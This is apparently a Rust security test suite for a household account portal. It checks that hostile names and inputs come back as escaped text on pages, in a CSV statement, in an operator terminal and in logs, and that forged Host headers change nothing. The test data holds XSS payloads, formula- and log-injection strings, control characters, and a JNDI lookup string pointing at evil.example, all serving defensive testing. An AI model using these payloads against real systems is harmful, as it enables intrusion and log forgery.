//! Hostile text on the household's own pages, in their file and in the log; and what no log and no
//! figure of monitoring tells of a household.

mod common;

use common::{
    Answer, Browser, Demo, Http, Options, anime,
    door::{assert_own_page, decision_of, decisions},
    operator::{Operator, SAKURA},
    portal::{Household, PASSWORD, access_key, hidden, pairs, wanted},
    purchase, unique,
};
use serde_json::Value;
use std::collections::BTreeSet;

/// Every page that a household of one ID more than the sample can look at.
const PAGES: [&str; 18] = [
    "",
    "details",
    "contacts",
    "statement",
    "statement?month=2026%2F13",
    "sessions",
    "inquiry",
    "inquiry?id=1",
    "ids/1",
    "ids/1/delete",
    "ids/1/change",
    "ids/1/change/items",
    "ids/1/change/confirm",
    "register",
    "register/applicant",
    "register/confirm",
    "limits",
    "restrict/confirm",
];

/// What neutralises a text: no tag of it, no character that turns or hides the others.
fn assert_neutral(page: &Answer, what: &str) {
    assert!(!page.body.contains("<script>") && !page.body.contains("<img"), "{what}: {page:?}");
    let hidden = ['\u{202e}', '\u{2066}', '\u{200b}', '\u{200f}', '\u{0}', '\u{1b}', '\u{7}'];
    assert!(!page.body.contains(hidden), "{what}: {page:?}");
    assert!(!page.body.contains(&"長".repeat(121)), "{what}: {page:?}");
}

/// A demo whose provider and services have hostile names.
fn hostile_demo(provider: &str, service: &str) -> (Demo, tempfile::TempDir) {
    let folder = Demo::start().kill().expect("its own folder");
    let file = folder.path().join("demo.json");
    let text = std::fs::read_to_string(&file).expect("the sample");
    let mut sample: Value = serde_json::from_str(&text).expect("JSON");
    sample["providers"][1]["name"] = provider.into();
    sample["providers"][1]["services"][0]["name"] = service.into();
    sample["providers"][0]["services"][0]["name"] = service.into();
    std::fs::write(&file, sample.to_string()).expect("writes");
    std::fs::remove_dir_all(folder.path().join("store")).expect("removes");
    std::fs::remove_file(folder.path().join("master.key")).expect("removes");
    let demo = Demo::with(&Options { folder: Some(folder.path()), ..Options::default() });
    (demo, folder)
}

/// Buys the monthly service of the other provider.
fn subscribe(demo: &Demo) {
    let (browser, provider) = (Browser::new(demo.issuer()), demo.other_provider());
    let flow = browser.arrive(&provider.push(Some(&common::order(&unique(), "pack", 1, 525))));
    assert_eq!(browser.log_in(&flow, "sakura01", demo.password("sakura01")).status, 303);
    let bought = browser.buy(&flow);
    assert_eq!(bought.status, 303, "{bought:?}");
}

#[test]
fn hostile_names_are_text_on_every_page_and_in_the_file_security_47_48() {
    let hostile = "=\"'><script>alert(1)</script>\u{202e}\u{2066}&amp;,";
    let endless = format!("{hostile}\u{200b}\u{1b}[31m\n{}", "長".repeat(3_400));
    let (demo, _folder) = hostile_demo(&endless, hostile);
    purchase(&demo, &Browser::new(demo.issuer()), "sakura01", &anime(&unique()));
    subscribe(&demo);
    let household = Household::sakura(&demo);
    household.register_up_to_confirm("ume00003");
    household
        .change_up_to_confirm(1, &[("mail", "a@ngn.example"), ("mail_again", "a@ngn.example")]);
    household.step("restrict", &[("agree", "yes")], "restrict/confirm");
    let shown = |page: &Answer| page.body.contains("&#60;script&#62;alert(1)");
    let mut where_shown = BTreeSet::new();
    for page in PAGES {
        for lang in ["ja", "en"] {
            let to = if page.contains('?') { '&' } else { '?' };
            let answer = household.open(&format!("{page}{to}lang={lang}"));
            assert!(matches!(answer.status, 200 | 422), "{page}: {answer:?}");
            assert_neutral(&answer, page);
            where_shown.extend(shown(&answer).then_some(page));
        }
    }
    // They are shown, not dropped: the test would see nothing otherwise.
    let meant = ["contacts", "details", "restrict/confirm", "statement"];
    assert!(where_shown.is_superset(&BTreeSet::from(meant)), "{where_shown:?}");
    let file = household.see("statement.csv");
    assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8"));
    let disposition = file.header("content-disposition").expect("a file");
    assert!(disposition.starts_with("attachment; filename=\"statement-"), "{disposition}");
    let rows: Vec<&str> = file.body.split("\r\n").filter(|row| !row.is_empty()).collect();
    assert_eq!(rows.len(), 3, "a name makes no row of its own: {file:?}");
    // Quoted, and no formula (RFC 4180, security.md 47).
    for row in &rows[1..] {
        assert!(row.contains("\"'=\"\"'><script>alert(1)</script>&amp;,\""), "{row}");
    }
    assert!(!file.body.contains(['\u{202e}', '\u{2066}', '\u{200b}', '\u{1b}']), "{file:?}");
    let log = demo.log();
    assert!(!log.contains(['\u{202e}', '\u{2066}', '\u{200b}', '\u{1b}']), "{log}");
}

#[test]
fn what_a_household_types_comes_back_as_text_security_47() {
    let demo = Demo::start();
    let household = Household::sakura(&demo);
    let script = "\"'><script>alert(2)</script><img src=x onerror=alert(3)>";
    household.step("register", &[("agree", "yes")], "register/applicant");
    household.step("ids/1/change", &common::portal::APPLICANT, "ids/1/change/items");
    let long: String = script.chars().chain(std::iter::repeat_n('x', 300)).collect();
    let attempts: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("register/applicant", vec![("name", script), ("phone", script), ("contractor", script)]),
        ("ids/1/change", vec![("name", script), ("phone", script), ("contractor", "yes")]),
        ("ids/1/change/items", wanted(script, script, script).to_vec()),
        ("limits", vec![("limit_1", script), ("limit_2", script)]),
        ("inquiry", vec![("service", &long), ("contact", script), ("text", script)]),
    ];
    for (page, typed) in attempts {
        let answer = household.submit(page, &typed);
        assert_own_page(&answer, 422);
        assert_neutral(&answer, page);
        assert!(answer.body.contains("&#62;&#60;script&#62;alert(2)"), "{page}: {answer:?}");
    }
    // Short enough for a name, and allowed in one: it is text where it stands.
    let name = [("name", "<b>太郎</b>"), ("phone", "0312345678"), ("contractor", "no")];
    household.step("register/applicant", &name, "register/id");
    let typed = wanted("ume00003", PASSWORD, "a@ngn.example");
    household.step("register/id", &typed, "register/confirm");
    let confirm = household.see("register/confirm");
    assert!(confirm.body.contains("&#60;b&#62;太郎&#60;/b&#62;"), "{confirm:?}");
    household.step("register/confirm", &[], "register/done");
    assert!(household.see("ids/3").body.contains("&#60;b&#62;太郎&#60;/b&#62;"));
    // At the entrance, in addresses, and by the browser's own name.
    let stranger = Household::at(demo.issuer());
    let missing = stranger.submit("login", &[("customer_id", script)]);
    assert_own_page(&missing, 422);
    assert_neutral(&missing, "login");
    for page in [
        "%3Cscript%3Ealert(3)%3C/script%3E",
        "ids/%3Cscript%3E",
        "statement?month=%3Cscript%3E&passport=%3Cscript%3E",
    ] {
        let answer = household.open(page);
        assert!(matches!(answer.status, 404 | 422), "{answer:?}");
        assert_neutral(&answer, page);
    }
    let csrf = stranger.csrf("login");
    let form =
        [("csrf", &*csrf), ("customer_id", SAKURA), ("access_key", access_key(&demo, SAKURA))];
    let browser = "<script>alert(4)</script>\u{202e}";
    let headers = [("origin", demo.issuer()), ("user-agent", browser)];
    assert_eq!(stranger.browser.post_with("/wso/login", &headers, &form).status, 303);
    let sessions = stranger.see("sessions");
    assert_neutral(&sessions, "sessions");
}

#[test]
fn an_inquiry_is_text_in_the_desks_terminal_security_47_48() {
    let demo = Demo::start();
    let (household, operator) = (Household::sakura(&demo), Operator::of(&demo));
    let steering = "<script>alert(5)</script>\u{202e}\u{2066}\u{200b}";
    for control in ["\u{1b}[2J", "\u{9b}31m", "\u{7}", "a\u{0}"] {
        let typed = [("service", "x"), ("contact", "x"), ("text", control)];
        assert_own_page(&household.submit("inquiry", &typed), 422);
    }
    let text = format!("{steering}\r\n  2026-11-24  偽の行");
    let typed = [("service", steering), ("contact", steering), ("text", &*text)];
    household.step("inquiry", &typed, "inquiry/done");
    let told = operator.run(&["line", "inquiries", SAKURA]);
    assert!(told.status.success(), "{told:?}");
    let out = String::from_utf8(told.stdout).expect("text");
    let hidden = |c: char| "\u{202e}\u{2066}\u{200b}".contains(c) || (c.is_control() && c != '\n');
    assert!(out.contains("<script>alert(5)</script>") && !out.contains(hidden), "{out:?}");
    // No line of its own: what was typed stands indented.
    let lines: Vec<&str> = out.lines().filter(|line| !line.starts_with("  ")).collect();
    assert!(lines.iter().all(|line| !line.contains("偽の行")), "{out}");
    let answer = operator.get(&format!("/lines/{SAKURA}/inquiries"));
    assert_eq!(answer.header("content-type"), Some("application/json"));
    assert_eq!(answer.json()["inquiries"][0]["service"], steering, "a program gets it as typed");
}

#[test]
fn a_forged_host_changes_no_page_security_50() {
    let demo = Demo::start();
    let household = Household::sakura(&demo);
    let cookie = household.browser.cookie_header();
    let forged: [&[(&str, &str)]; 4] = [
        &[("host", "evil.example")],
        &[("x-forwarded-host", "evil.example")],
        &[("forwarded", "host=evil.example;proto=https")],
        &[("x-forwarded-proto", "https"), ("x-original-url", "//evil.example/")],
    ];
    for headers in forged {
        for page in ["login", "", "details", "contacts", "ids/1", "register", "ids/99", "nothing"] {
            let headers = [headers, &[("cookie", &*cookie)]].concat();
            let url = format!("{}{}", demo.issuer(), household.path(page));
            let answer = household.browser.http.get(&url, &headers);
            let honest = household.open(page);
            assert_eq!(answer.status, honest.status, "{page}");
            assert_eq!(without_drawn(&answer), without_drawn(&honest), "{page}");
            assert!(!format!("{answer:?}").contains("evil.example"), "{answer:?}");
        }
        let url = format!("{}/wso/details", demo.issuer());
        let answer = household.browser.http.get(&url, headers);
        assert_eq!(answer.location(), "/wso/login", "no address of another host");
    }
    // A form posted under another name is none of ours, whatever the host says.
    let form = hidden(&household.see("inquiry"), "/wso/inquiry");
    let headers = [("host", "evil.example"), ("origin", "http://evil.example")];
    assert_own_page(&household.browser.post_with("/wso/inquiry", &headers, &pairs(&form)), 403);
}

/// A page without what is drawn for each answer.
fn without_drawn(answer: &Answer) -> String {
    let id = answer.header("x-request-id").expect("a request ID");
    let policy = answer.header("content-security-policy").expect("a policy");
    let (_, rest) = policy.split_once("'nonce-").expect("a nonce");
    let nonce = rest.split('\'').next().expect("a nonce");
    let drawn = [id, nonce].iter().fold(answer.body.clone(), |body, drawn| body.replace(drawn, ""));
    // The entrance's token, which a browser without its cookie is given anew.
    match drawn.split_once("action=\"/wso/login\"") {
        Some((before, rest)) => {
            format!("{before}{}", rest.split_once("</form>").expect("its end").1)
        }
        None => drawn,
    }
}

#[test]
fn no_secret_and_nothing_personal_is_logged_or_counted_security_62_64() {
    let env = vec![("LINEPASS__LOG__LEVEL", "trace".to_owned())];
    let mut demo = Demo::with(&Options { env, ..Options::default() });
    let household = Household::at(demo.issuer());
    let mut secrets: Vec<String> = Vec::new();
    let see = |page: &str, secrets: &mut Vec<String>| {
        secrets.push(household.csrf(page));
        secrets.extend(household.browser.cookies.borrow().values().cloned());
    };
    see("login", &mut secrets);
    let wrong = "canary-4417";
    assert_eq!(household.sign_in(SAKURA, wrong).status, 403);
    assert_eq!(household.sign_in("canary-id-9", wrong).status, 403);
    household.enter(SAKURA, access_key(&demo, SAKURA));
    household.step("register", &[("agree", "yes")], "register/applicant");
    see("register/applicant", &mut secrets);
    let applicant = [("name", "椿原 花枝"), ("phone", "090-8765-4321"), ("contractor", "yes")];
    household.step("register/applicant", &applicant, "register/id");
    let typed = wanted("canaryid0", "Canary-pw-1", "canary.mail@ngn.example");
    assert_own_page(
        &household.submit("register/id", &wanted("momiji01", "Canary-pw-0", "x@y.example")),
        422,
    );
    household.step("register/id", &typed, "register/confirm");
    see("register/confirm", &mut secrets);
    household.step("register/confirm", &[], "register/done");
    household.step("ids/3/change", &applicant, "ids/3/change/items");
    let off = [("line_authentication", "off"), ("current_password", "Canary-pw-2")];
    assert_own_page(&household.submit("ids/3/change/items", &off), 422);
    let renamed = wanted("canaryid1", "Canary-pw-3", "canary.other@ngn.example");
    let off = [("line_authentication", "off"), ("current_password", "Canary-pw-1")];
    household.step("ids/3/change/items", &[&renamed[..], &off].concat(), "ids/3/change/confirm");
    see("ids/3/change/confirm", &mut secrets);
    household.step("ids/3/change/confirm", &[], "ids/3/change/done");
    let inquiry =
        [("service", "canary-service"), ("contact", "canary-contact"), ("text", "canary-text")];
    see("inquiry", &mut secrets);
    household.step("inquiry", &inquiry, "inquiry/done");
    household.step("limits", &[("limit_3", "4,321")], "limits/confirm");
    household.step("limits/confirm", &[], "limits/done");
    for page in
        ["sessions", "statement", "statement.csv", "contacts", "ids/3", "ids/3/delete", "details"]
    {
        household.see(page);
    }
    household.open("ids/canaryid1");
    household.step("restrict", &[("agree", "yes")], "restrict/confirm");
    see("restrict/confirm", &mut secrets);
    household.step("restrict/confirm", &[], "restrict/done");
    household.sign_out();
    decisions(&demo, "restrict", 1);

    let typed = "canary-4417 canary-id-9 CANARY-ID-9 椿原 花枝 090-8765-4321 09087654321 Canary-pw-0 \
        Canary-pw-1 Canary-pw-2 Canary-pw-3 canaryid0 canaryid1 canary.mail canary.other \
        canary-service canary-contact canary-text momiji01 sakura01 @example.jp 0600000000 西日本 $argon2";
    secrets.extend(typed.split(' ').filter(|word| !word.is_empty()).map(str::to_owned));
    for line in demo.said["lines"].as_array().expect("lines") {
        secrets.push(line["access_key"].as_str().expect("a key").to_owned());
        for id in line["passport_ids"].as_array().expect("IDs") {
            secrets.push(id["password"].as_str().expect("a password").to_owned());
        }
    }
    let metrics = Http::new().get(&format!("{}/metrics", demo.text("/operator")), &[]).body;
    assert!(metrics.contains("route=\"/wso/ids/{number}/change/confirm\""), "{metrics}");
    for personal in [SAKURA, "127.0.0.1"] {
        assert!(!metrics.contains(personal), "{metrics}");
    }
    assert!(demo.terminate().success());
    let log = demo.log();
    for action in
        ["sign_in", "register_passport", "change_passport", "inquire", "set_limits", "restrict"]
    {
        let told = demo.decisions(action);
        assert!(
            told.iter().any(|line| line["line"] == SAKURA && line["outcome"] == "accepted"),
            "{action}: {told:?}"
        );
    }
    // Names and labels; a sum of seconds may have any digits.
    let labels = metrics.lines().filter_map(|line| line.rsplit_once(' ').map(|(labels, _)| labels));
    let metrics: String = labels.collect::<Vec<_>>().join("\n");
    for secret in secrets {
        assert!(secret.chars().count() > 1 && !log.contains(&secret), "{secret} is in the log");
        assert!(!metrics.contains(&secret), "{secret} is counted");
    }
}

#[test]
fn what_is_typed_writes_no_lines_and_no_labels_of_its_own_security_63_64() {
    let demo = Demo::start();
    let household = Household::at(demo.issuer());
    let series = || -> BTreeSet<String> {
        let text = Http::new().get(&format!("{}/metrics", demo.text("/operator")), &[]).body;
        let lines = text.lines().filter(|line| {
            // Asking for the figures is counted too.
            !line.starts_with('#') && !line.contains("route=\"/metrics\"")
        });
        lines.map(|line| line.rsplit_once(' ').expect("a value").0.to_owned()).collect()
    };
    let guess = |customer: &str, key: &str| {
        let refused = household.sign_in(customer, key);
        assert_eq!(refused.status, 403, "{customer:?}");
        refused
    };
    let paths = |n: usize| [format!("ids/x{n}"), format!("nothing{n}"), format!("ids/{n}/x{n}")];
    guess("CAF9999999999", "x");
    for page in paths(0) {
        household.open(&page);
    }
    let before = series();
    for customer in [
        "CAF0000012573\n{\"action\":\"sign_in\",\"outcome\":\"accepted\"}",
        "CAF0000012573\r\n2026-01-01 INFO sign_in ok",
        "\u{1b}[31mCAF0000012573\u{1b}[0m",
        "CAF\u{202e}0000012573",
        "CAF0000012573\u{0}",
        "${jndi:ldap://evil.example}",
    ] {
        let refused = guess(customer, "1\n2\u{1b}[2J");
        let told = decision_of(&demo, "sign_in", &refused);
        assert_eq!((&told["reason"], told.get("line")), (&"unknown_line".into(), None), "{told}");
        let of_request = demo.log().matches(refused.header("x-request-id").expect("one")).count();
        assert_eq!(of_request, 1, "one line");
    }
    // Bytes that are no text are no form.
    let csrf = household.csrf("login");
    let url = format!("{}/wso/login", demo.issuer());
    let cookie = household.browser.cookie_header();
    let raw = format!("csrf={csrf}&customer_id=%ff%fe&access_key=1");
    let sent = household.browser.http.try_post_raw(&url, &[("cookie", &cookie)], &raw);
    assert_own_page(&sent.expect("an answer"), 400);
    for n in 1..20 {
        guess(&format!("CAF77777{n:05}"), &unique());
        for page in paths(n) {
            household.open(&page);
        }
    }
    // Figures of the sign-ins that failed may be there by now; no label is made of what was typed.
    let new: Vec<String> = series().difference(&before).cloned().collect();
    for typed in ["77777", "nothing1", "/x1", "CAF", "ids/1", "jndi"] {
        assert!(new.iter().all(|series| !series.contains(typed)), "{new:?}");
    }
    assert!(new.len() < 20, "{new:?}");
    let log = demo.log();
    assert!(!log.contains(['\u{1b}', '\u{202e}', '\u{0}']), "{log}");
    for line in log.lines() {
        let parsed: Value = serde_json::from_str(line).unwrap_or_else(|_| panic!("{line}"));
        assert!(parsed["time"].is_string() && parsed["level"].is_string(), "{line}");
        assert_ne!(
            (&parsed["action"], &parsed["outcome"]),
            (&"sign_in".into(), &"accepted".into())
        );
    }
}
